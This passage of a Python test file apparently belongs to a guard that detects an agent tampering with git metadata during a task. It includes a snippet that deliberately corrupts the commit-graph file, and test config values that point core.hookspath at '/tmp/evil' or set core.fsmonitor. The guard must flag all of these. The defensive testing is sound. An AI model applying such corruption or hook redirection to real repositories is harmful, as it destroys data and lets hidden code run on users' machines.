graph=$(git rev-parse --git-common-dir)/objects/info/commit-graph
python3 -c "import sys; p=sys.argv[1]; d=bytearray(open(p,'rb').read()); d[len(d)//2]^=1; open(p,'wb').write(d)" "$graph" """)
    res = run_exec(repo, agent, "--sandbox", "none", "--task", "cg")
    assert plain_git(repo, "commit-graph", "verify").returncode != 0  # the graph really is forged
    assert res.code == 1
    assert "objects/info/commit-graph was added" in res.reasons("git-metadata")


def test_another_tasks_config_worktree_is_excused_only_for_what_arming_writes(tmp_path: Path) -> None:
    from ccm_guard.detect.gates.repo import _arming
    from ccm_guard.git.config import ConfigChange

    home = Path(os.environ["CCM_GUARD_HOME"])
    admin = tmp_path / ".git" / "worktrees" / "b"
    ours = ConfigChange("core.hookspath", (), (str(home / "hooks" / "x"),), True)
    who = ConfigChange("user.name", (), ("Person",), False)
    excludes = ConfigChange("core.excludesfile", (), (str(admin / "ccm-guard-excludes"),), True)
    assert _arming([ours, who, excludes], admin) and _arming([who], admin)  # a snapshot between two writes
    assert not _arming([ConfigChange("core.excludesfile", (), (str(tmp_path / "mine"),), True)], admin)
    assert not _arming([ConfigChange("core.hookspath", (), ("/tmp/evil",), True)], admin)
    assert not _arming([ConfigChange("core.fsmonitor", (), ("x",), True)], admin)
